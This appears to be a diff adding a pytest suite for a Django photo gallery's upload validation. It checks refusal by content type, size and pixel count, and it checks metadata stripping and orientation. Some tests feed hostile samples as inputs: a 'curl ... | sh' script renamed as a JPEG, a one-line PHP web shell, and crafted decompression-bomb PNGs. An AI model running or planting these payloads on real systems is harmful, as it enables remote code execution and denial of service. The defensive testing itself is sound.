@@ -1,0 +1,165 @@
+"""Uploads refused by content, size and pixel count; what is kept is upright and carries no metadata."""
+
+import io
+import struct
+import warnings
+import zlib
+
+import pytest
+from django.core.exceptions import ValidationError
+from PIL import Image
+
+from secretariat.gallery import images, services
+from secretariat.gallery.images import MAX_BYTES, guard_decompression_bombs, photo_clean
+
+from .conftest import MAKE, ORIENTATION, camera_exif, jpeg_bytes, upload
+
+pytestmark = pytest.mark.django_db
+
+TOO_MANY_PIXELS = "This image has more than 40 million pixels"
+
+
+def png_header_claiming(width, height):
+    """A PNG whose header claims width × height pixels and which holds no pixel data at all."""
+
+    def chunk(kind, data):
+        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
+
+    ihdr = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
+    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", ihdr) + chunk(b"IEND", b"")
+
+
+def bilevel_png(width, height):
+    """A real, fully decodable 1-bit PNG: a few kilobytes on disk, width × height when decoded."""
+    out = io.BytesIO()
+    Image.new("1", (width, height)).save(out, "PNG")
+    return out.getvalue()
+
+
+def refusal(content, name="photo.jpg"):
+    with pytest.raises(ValidationError) as refused:
+        photo_clean(upload(content, name))
+    return " ".join(refused.value.messages)
+
+
+def test_a_script_renamed_jpg_is_refused_for_its_content():
+    script = b"#!/bin/sh\ncurl https://example.org/x | sh\n"
+    assert "content is not an accepted kind (JPEG, PNG)" in refusal(script, "holiday.jpg")
+
+
+def test_a_100_megapixel_header_is_refused_before_any_decoding():
+    # 10000 × 10000 claimed, no pixel data: decoding would fail as "damaged", not as too large.
+    assert TOO_MANY_PIXELS in refusal(png_header_claiming(10_000, 10_000), "huge.png")
+
+
+def test_an_image_over_the_limit_but_under_pillows_own_is_refused_too():
+    # 50 megapixels: Pillow's bomb guard (89 MP) lets it through; the gallery's limit does not.
+    assert TOO_MANY_PIXELS in refusal(png_header_claiming(10_000, 5_000), "big.png")
+
+
+def test_a_real_100_megapixel_image_is_refused_even_where_warnings_are_only_printed():
+    content = bilevel_png(10_000, 10_000)
+    assert len(content) < 100_000  # cheap to send: the danger is in the decoding
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")  # as in production, where a warning alone stops nothing
+        guard_decompression_bombs()  # what the app does at start-up
+        assert TOO_MANY_PIXELS in refusal(content, "bomb.png")
+
+
+def test_a_truncated_jpeg_is_refused_as_incomplete():
+    whole = jpeg_bytes(1600, 1200)
+    assert "damaged or incomplete" in refusal(whole[: len(whole) // 2])
+
+
+def test_an_oversized_file_is_refused_for_its_size():
+    content = jpeg_bytes(64, 64) + b"\0" * MAX_BYTES
+    assert "the limit is 15.0\xa0MB" in refusal(content)
+
+
+def _stored(photo):
+    """The bytes of the stored full size and of each rendition."""
+    storage = photo.image.storage
+    names = [photo.image.name, *(r["name"] for r in photo.renditions)]
+    out = []
+    for name in names:
+        with storage.open(name) as file:
+            out.append(file.read())
+    return out
+
+
+def test_location_and_camera_data_are_gone_from_every_stored_file(gallery):
+    xmp = b'<x:xmpmeta xmlns:x="adobe:ns:meta/"><exif:GPSLatitude>6,10.5S</exif:GPSLatitude></x:xmpmeta>'
+    original = io.BytesIO()
+    Image.open(io.BytesIO(jpeg_bytes())).save(
+        original, "JPEG", exif=camera_exif(), xmp=xmp, quality=85
+    )
+    content = original.getvalue()
+    assert Image.open(io.BytesIO(content)).getexif()[MAKE] == "PhoneMaker"  # the test can fail
+    photo = services.photo_add(gallery=gallery, by=None, upload=upload(content), caption_en="x")
+    files = _stored(photo)
+    assert len(files) == 4  # the full size and three renditions
+    for data in files:
+        assert b"PhoneMaker" not in data and b"Pocket 12" not in data and b"GPSLatitude" not in data
+        with Image.open(io.BytesIO(data)) as stored:
+            assert not stored.getexif()
+            assert "exif" not in stored.info and "xmp" not in stored.info
+
+
+def test_an_image_turned_by_its_exif_orientation_is_stored_upright(gallery):
+    # Stored on its side (1600 × 1200) with orientation 6: shown turned 90° clockwise.
+    content = jpeg_bytes(1600, 1200, exif=camera_exif(orientation=6))
+    photo = services.photo_add(gallery=gallery, by=None, upload=upload(content), caption_en="x")
+    assert (photo.width, photo.height) == (1200, 1600)
+    for data in _stored(photo):
+        with Image.open(io.BytesIO(data)) as stored:
+            assert ORIENTATION not in stored.getexif()
+            rgb = stored.convert("RGB")
+            w, h = rgb.size
+            assert h > w
+            # The red corner drawn top-left is top-right once turned clockwise.
+            top_right, top_left = rgb.getpixel((w - 2, 2)), rgb.getpixel((2, 2))
+            assert top_right[0] > 180 and top_right[2] < 80
+            assert top_left[2] > 120
+
+
+def test_renditions_are_made_in_three_widths_with_the_photos_proportions(gallery):
+    content = jpeg_bytes(1600, 1200)
+    photo = services.photo_add(gallery=gallery, by=None, upload=upload(content), caption_en="x")
+    assert [(r["width"], r["height"]) for r in photo.renditions] == [
+        (320, 240),
+        (640, 480),
+        (1280, 960),
+    ]
+    for rendition, data in zip(photo.renditions, _stored(photo)[1:], strict=True):
+        with Image.open(io.BytesIO(data)) as stored:
+            assert stored.format == "WEBP"
+            assert stored.size == (rendition["width"], rendition["height"])
+    with photo.image.open() as full, Image.open(full) as stored:
+        assert stored.format == "JPEG" and stored.size == (1600, 1200)
+
+
+def test_a_small_photo_gets_a_rendition_at_its_own_width():
+    clean = photo_clean(upload(jpeg_bytes(500, 300)))
+    assert [(r.width, r.height) for r in clean.renditions] == [(320, 192), (500, 300)]
+
+
+def test_a_png_with_transparency_stays_a_png():
+    out = io.BytesIO()
+    Image.new("RGBA", (400, 300), (0, 0, 0, 0)).save(out, "PNG")
+    clean = photo_clean(upload(out.getvalue(), "slide.png"))
+    assert clean.kind == "png" and clean.extension == "png"
+    assert Image.open(io.BytesIO(clean.full.content)).mode == "RGBA"
+
+
+def test_a_refused_upload_leaves_no_photo_and_no_file(gallery, settings):
+    with pytest.raises(ValidationError):
+        services.photo_add(
+            gallery=gallery, by=None, upload=upload(b"<?php system($_GET[1]);"), caption_en="x"
+        )
+    assert not gallery.photos.exists()
+    media = settings.MEDIA_ROOT
+    assert not media.exists() or not any(p.is_file() for p in media.rglob("*"))
+
+
+def test_the_limits_are_the_documented_ones():
+    assert images.MAX_PIXELS == 40_000_000 and images.WIDTHS == (320, 640, 1280)
